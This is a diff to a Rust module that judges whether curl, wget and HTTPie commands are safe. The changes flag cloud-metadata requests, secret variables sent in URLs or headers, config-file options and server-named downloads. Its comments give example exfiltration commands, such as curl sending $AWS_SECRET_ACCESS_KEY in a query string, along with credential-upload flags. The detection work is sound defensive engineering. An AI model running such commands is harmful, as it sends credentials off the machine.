@@ -1,5 +1,14 @@
 //! Fetchers: `curl`, `wget`, HTTPie/`xh`.
 //!
+//! What a request sends decides first: a URL naming a cloud metadata endpoint (it hands
+//! out the machine's role credentials: `floor::metadata_host`, every IPv4 spelling) or a
+//! secret-shaped variable expanded into the URL, a header, the body or the user
+//! (`curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`, `-H "Authorization: $TOKEN"`) is a hard
+//! floor: the secret leaves the machine. Options read from a file the floor does not parse
+//! (`curl -K`, `wget -e`/`--execute`) and files named by the server (`-OJ`, `wget -P DIR`)
+//! are soft: what they upload or plant cannot be seen. Credential files sent (`-d @FILE`,
+//! `-T FILE`) are reads the path floor judges (and with egress, the whole-command floor).
+//!
 //! `curl` and `wget` are read-only only as a GET (or HEAD) printing to stdout, with every
 //! option known: a body (`-d`, `-F`, `--json`), an upload (`-T`), a config file (`-K`),
 //! `.netrc` credentials, headers read from files (`-H @file`) or an unknown option is not
@@ -65,10 +74,67 @@ const DELETE_PATH_WORDS: &[&str] = &[
     "delete", "destroy", "purge", "_close", "drop", "remove", "wipe", "flush",
 ];
 
+/// The first secret-shaped variable whose value reaches one of `args` (dynamic words only).
+fn secret_sent(cmd: &Cmd) -> Option<String> {
+    cmd.args().iter().enumerate().find_map(|(i, a)| {
+        if !cmd.arg_dynamic(i) {
+            return None;
+        }
+        crate::effects::secrets::expansions(a)
+            .into_iter()
+            .filter_map(|u| u.value().map(str::to_string))
+            .find(|n| crate::effects::secret_name(n))
+    })
+}
+
+/// The request's secret flows and credential sources, if any: a metadata endpoint asked,
+/// or a secret-shaped variable sent.
+fn sends_secret(prog: &str, cmd: &Cmd, urls: &[String], resolve: &[String]) -> Option<Said> {
+    let to = urls
+        .first()
+        .map(|u| host_of(u).to_string())
+        .unwrap_or_else(|| "a host".into());
+    for u in urls {
+        if let Some(what) = crate::floor::metadata_host(host_of(u)) {
+            return Some(Said::secret(
+                "this machine's cloud credentials",
+                format!(
+                "{prog} asks {what} at {}, which hands out this machine's credentials; the cloud SDKs and CLIs fetch them themselves",
+                host_of(u)
+            ),
+            ));
+        }
+    }
+    // `--resolve HOST:PORT:ADDR`, `--connect-to HOST:PORT:ADDR:PORT`: the request goes to ADDR.
+    for r in resolve {
+        if r.split(':')
+            .any(|part| crate::floor::metadata_host(part.trim_matches(['[', ']'])).is_some())
+        {
+            return Some(Said::secret(
+                "this machine's cloud credentials",
+                format!(
+                "{prog} {r} points the request at a metadata endpoint, which hands out this machine's credentials"
+            ),
+            ));
+        }
+    }
+    let name = secret_sent(cmd)?;
+    Some(Said::secret(
+        format!("${name}"),
+        format!(
+        "{prog} sends the value of the secret-shaped variable ${name} to {to}; to call an API with your credentials use its own CLI (gh api, aws, gcloud …), which authenticates without the token in the command"
+    ),
+    ))
+}
+
 fn host_of(url: &str) -> &str {
     let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
     let host = rest.split(['/', '?', '#']).next().unwrap_or("");
     let host = host.rsplit('@').next().unwrap_or(host);
+    // `[fd00:ec2::254]:80`
+    if let Some(v6) = host.strip_prefix('[') {
+        return v6.split(']').next().unwrap_or(v6);
+    }
     host.split(':').next().unwrap_or(host)
 }
 
@@ -310,6 +376,12 @@ const CURL_VALUES: &[&str] = &[
     "--upload-file",
     "-K",
     "--config",
+    "--etag-save",
+    "--etag-compare",
+    "--hsts",
+    "--alt-svc",
+    "--unix-socket",
+    "--abstract-unix-socket",
 ];
 
 /// Options that send a body (and make the method POST, or PUT for uploads).
@@ -396,6 +468,8 @@ pub(super) fn curl(cmd: &Cmd) -> Said {
     let mut has_body = false;
     let mut upload = false;
     let mut unknown: Option<String> = None;
+    let mut soft_why: Option<String> = None;
+    let mut resolve = Vec::new();
     for (name, val) in &words {
         let v = val.clone().unwrap_or_default();
         match name.as_str() {
@@ -407,7 +481,22 @@ pub(super) fn curl(cmd: &Cmd) -> Said {
                 body.push_str(&v);
                 body.push(' ');
             }
-            "-K" | "--config" => unknown = Some("curl -K reads options from a file".into()),
+            "-K" | "--config" => {
+                soft_why = Some(format!(
+                    "curl -K {v} reads its options from a file the floor does not parse (they can upload files, send headers or write anywhere)"
+                ))
+            }
+            "--resolve" | "--connect-to" => resolve.push(v),
+            "--unix-socket" | "--abstract-unix-socket" => {
+                unknown = Some(format!("curl {name} talks to a local socket ({v})"))
+            }
+            "--etag-compare" => reads.push(v),
+            "--etag-save" | "--hsts" | "--alt-svc" => {
+                writes.push(v.clone());
+                soft_why = Some(format!(
+                    "curl {name} {v} writes a value the server chooses into {v}"
+                ));
+            }
             "-H" | "--header" | "--proxy-header" if v.starts_with('@') => {
                 unknown = Some("curl -H @file sends headers read from a file".into())
             }
@@ -440,6 +529,17 @@ pub(super) fn curl(cmd: &Cmd) -> Said {
             }
             n => unknown = Some(format!("curl {n} is not a known read-only option")),
         }
+    }
+    if let Some(s) = sends_secret("curl", cmd, &urls, &resolve) {
+        return s;
+    }
+    if let Some(why) = soft_why {
+        let category = if why.contains("-K") {
+            "exfiltration"
+        } else {
+            "planting"
+        };
+        return Said::soft(category, why);
     }
     let method = method.unwrap_or_else(|| {
         if upload {
@@ -478,7 +578,10 @@ pub(super) fn curl(cmd: &Cmd) -> Said {
             .iter()
             .any(|(n, _)| n == "-J" || n == "--remote-header-name")
         {
-            return Said::unknown("curl -J -O writes a file the server names");
+            return Said::soft(
+                "planting",
+                "curl -J -O writes a file the server names (it could be .envrc, .bashrc or a build script)",
+            );
         }
         for u in &urls {
             let path = u.split(['?', '#']).next().unwrap_or(u);
@@ -536,8 +639,13 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
         "--post-file",
         "--body-data",
         "--body-file",
+        "-e",
+        "--execute",
+        "-P",
+        "--directory-prefix",
     ];
     let mut urls = Vec::new();
+    let mut soft_why: Option<(&'static str, String)> = None;
     let mut out: Option<String> = None;
     let mut method = "GET".to_string();
     let mut body = String::new();
@@ -576,8 +684,29 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
             "--header" if v.starts_with('@') => {
                 return Said::unknown("wget reads a header from a file")
             }
+            // A wgetrc command: `post_file = …`, `output_document = …`, `dir_prefix = …`.
+            "-e" | "--execute" => {
+                soft_why = Some((
+                    "exfiltration",
+                    format!(
+                    "wget -e {v} runs a wgetrc command (it can upload a file or write anywhere)"
+                ),
+                ))
+            }
+            "-P" | "--directory-prefix" => {
+                soft_why = Some((
+                    "planting",
+                    format!("wget -P {v} saves a file the server names under {v}"),
+                ))
+            }
             _ => {}
         }
+    }
+    if let Some(s) = sends_secret("wget", cmd, &urls, &[]) {
+        return s;
+    }
+    if let Some((category, why)) = soft_why {
+        return Said::soft(category, why);
     }
     if method != "GET" && method != "HEAD" {
         return mutation("wget", &method, &urls, &body);
@@ -608,6 +737,15 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
 pub(super) fn httpie(cmd: &Cmd) -> Said {
     let args = cmd.args();
     let pos: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    let urls: Vec<String> = pos
+        .iter()
+        .filter(|p| p.contains("://") || p.contains('.') || p.starts_with(':'))
+        .take(1)
+        .map(|s| s.to_string())
+        .collect();
+    if let Some(s) = sends_secret(cmd.program(), cmd, &urls, &[]) {
+        return s;
+    }
     let method = pos
         .first()
         .filter(|m| m.chars().all(|c| c.is_ascii_alphabetic()) && m.len() <= 7)
